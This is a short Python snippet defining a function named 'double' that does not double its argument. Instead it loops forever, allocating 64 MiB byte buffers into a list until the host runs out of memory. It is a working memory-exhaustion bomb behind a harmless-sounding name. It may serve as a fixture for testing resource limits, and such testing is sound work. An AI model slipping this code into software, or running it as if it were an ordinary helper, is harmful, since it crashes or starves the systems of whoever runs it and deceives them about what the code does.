def double(n):
    hoard = []
    while True:
        hoard.append(bytes(64 * 1024 * 1024))
